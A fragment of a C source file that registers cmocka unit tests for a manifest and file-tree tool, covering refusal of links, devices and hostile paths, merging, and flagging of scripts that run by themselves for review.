#define TEST(f) cmocka_unit_test_setup_teardown(f, setup, leave_own_folder)
    const struct CMUnitTest tests[] = {
        TEST(a_manifest_is_sorted_and_its_text_is_canonical),
        TEST(p17_links_and_devices_are_refused_by_name),
        TEST(p17_a_file_that_is_exchanged_while_it_is_looked_at_is_refused),
        TEST(p17_hostile_names_are_refused),
        TEST(p17_hostile_paths_in_a_manifest_are_refused),
        TEST(p17_names_that_are_one_elsewhere_are_refused),
        TEST(p17_limits_are_named),
        TEST(a_look_at_somebodys_folder_refuses_and_follows_nothing),
        TEST(globs_match_within_a_part_and_across),
        TEST(a_difference_names_changes_and_what_is_not_owned),
        TEST(merging_finds_every_conflict),
        TEST(p22_a_tree_goes_into_blobs_and_comes_out_the_same),
        TEST(p18_executable_configuration_is_flagged),
        TEST(p18_all_that_tools_run_by_themselves_is_flagged_wherever_it_lies),
        TEST(p18_each_script_that_runs_by_itself_is_flagged),
        TEST(p18_a_review_is_of_these_paths_and_bytes_by_the_whole_digest),
        TEST(p18_an_approval_holds_for_these_bytes_only),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
